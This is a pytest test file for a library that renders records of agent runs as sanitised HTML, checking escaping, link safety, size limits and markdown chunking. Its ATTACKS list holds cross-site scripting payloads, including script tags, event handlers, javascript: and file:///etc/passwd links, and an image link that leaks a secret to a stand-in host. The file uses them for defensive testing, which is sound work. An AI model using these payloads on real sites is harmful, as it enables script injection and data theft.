"""Pictures of runs as HTML."""

from __future__ import annotations

import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cursor_sdk_async._display import RunState, html
from cursor_sdk_async._display._html import header_html, parts_html
from cursor_sdk_async._display._markdown import chunks, markdown_html
from cursor_sdk_async.results import RunResult, TokenUsage
from tests.display.samples import Page, call, say, state, text

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</div></pre></details><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/?secret=1)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '[x](https://example.com "onclick=\\"alert(1)")',
    "<https://example.com/\"onclick='alert(1)>",
    '```html" onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- comment --> <!DOCTYPE x> <?php ?>",
    "|a|b|\n|--|--|\n|<script>|`</td>`|",
    "<style>*{display:none}</style>",
    "[x]: javascript:alert(1)\n\n[x]",
)


def attacked(attack: str) -> RunState:
    run = state()
    run.run_id = attack
    say(run, "system", model=attack)
    say(run, "thinking", text=attack)
    text(run, attack)
    call(run, name=attack, args={attack: attack})
    call(run, status="completed", result={attack: f"{attack}\n{attack}"})
    call(run, "c2", name=attack, args=attack, status=attack)
    say(run, "task", text=attack)
    run.fail(attack)
    return run


@pytest.mark.promise("DSP-01")
@pytest.mark.parametrize("attack", ATTACKS)
def test_foreign_text_never_becomes_markup(attack: str) -> None:
    page = Page(html(attacked(attack)))  # refuses unknown elements and attributes
    for tag, name, value in page.attributes:
        if name == "href":
            assert value.startswith("https://")
        assert name != "src"
        assert "alert(1)" not in value or (tag, name) in {("a", "title"), ("a", "href")}


@pytest.mark.promise("DSP-01")
@given(st.text(max_size=200))
def test_any_text_gives_well_formed_html(anything: str) -> None:
    Page(html(attacked(anything)))


@pytest.mark.promise("DSP-01")
def test_links_go_to_the_web_in_a_page_of_their_own() -> None:
    page = Page(markdown_html("[docs](https://example.com) ![alt](https://example.com/x.png)"))
    assert [value for _, name, value in page.attributes if name == "rel"] == [
        "noopener noreferrer nofollow"
    ] * 2
    assert page.text.split() == ["docs", "!alt"]


@pytest.mark.promise("DSP-04", "DSP-05")
def test_the_picture_of_a_run_shows_all_of_it() -> None:
    run = state()
    say(run, "thinking", text="hm")
    text(
        run,
        "## Title\n\nSome *text*, ünïcode 🚀 and $5 < $6.\n\n```python\nif a < b: ...\n```\n\n"
        "| a | b |\n|--|--|\n| 1 | 2 |",
    )
    call(run, args={"command": "ls"})
    call(run, status="error", result="no such file")
    run.usage = TokenUsage(1, 1, 0, 0, 2)
    run.settle(RunResult("run-1", "agent-1", "error", error_message="It <failed>.", duration_ms=1500))
    page = Page(html(run))
    for shown in ("hm", "Title", "ünïcode 🚀 and $5 < $6.", "if a < b: ...", "shell", "ls", "no such file"):
        assert shown in page.text
    for shown in ("1.5 s", "1 tool call", "run-1", "It <failed>."):
        assert shown in page.text
    assert ("div", "class", "tex2jax_ignore mathjax_ignore") in page.attributes


@pytest.mark.promise("DSP-05")
def test_nothing_is_said_of_what_is_not_known() -> None:
    assert "token" not in Page(html(RunResult("run-1", "a", "finished"))).text
    assert Page(header_html(state())).text == "● startingrun-1"
    assert parts_html(state(), []) == ""


@pytest.mark.promise("DSP-03")
def test_the_picture_of_a_huge_run_is_bounded_and_says_so() -> None:
    run = state()
    for number in range(400):
        call(run, f"c{number}", args={"command": "x" * 10_000})
        call(run, f"c{number}", status="completed", result="&" * 100_000)
    say(run, "thinking", text="<" * 1_000_000)
    text(run, "*<" * 500_000)
    drawn = html(run)
    assert len(drawn) < 3_000_000
    shown = Page(drawn).text
    assert "earlier steps not shown" in shown
    assert "earlier characters not shown" in shown


@pytest.mark.promise("DSP-03")
@pytest.mark.parametrize(
    "nasty", ["[" * 50_000, "> " * 40_000, "* " * 40_000, "`" * 99_999, "*a_" * 30_000, "|" * 99_999]
)
def test_nested_markdown_is_drawn_in_good_time(nasty: str) -> None:
    Page(markdown_html(nasty))


@pytest.mark.promise("DSP-08")
def test_a_text_is_cut_for_drawing_where_nothing_goes_on() -> None:
    prose = "word " * 500 + "\n\n"
    code = "```\n" + "line\n\n" * 500 + "```\n\n"
    items = "- item\n\n" * 500
    text = prose + code + "next\n\n" + items + "1. one\n\n" + "last"
    found = list(chunks(text))
    assert "".join(found) == text
    assert found == [prose, code, "next\n\n" + items + "1. one\n\n", "last"]
    assert list(chunks("")) == [""]


@pytest.mark.promise("DSP-08")
@given(st.text(alphabet="ab \n`~-*", max_size=400), st.integers(0, 400))
def test_a_text_that_grows_keeps_its_earlier_chunks(text: str, cut: int) -> None:
    long = text.replace("a", "word " * 100)
    before, after = list(chunks(long[:cut])), list(chunks(long))
    assert "".join(after) == long
    assert after[: len(before) - 1] == before[:-1]


@pytest.mark.promise("DSP-13")
def test_without_a_markdown_package_the_text_stands_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    from cursor_sdk_async._display import _markdown

    _markdown._markdown.cache_clear()
    monkeypatch.setitem(sys.modules, "markdown_it", None)
    run = state()
    text(run, "*a* <b>\n")
    assert "*a* <b>\n" in Page(html(run)).text
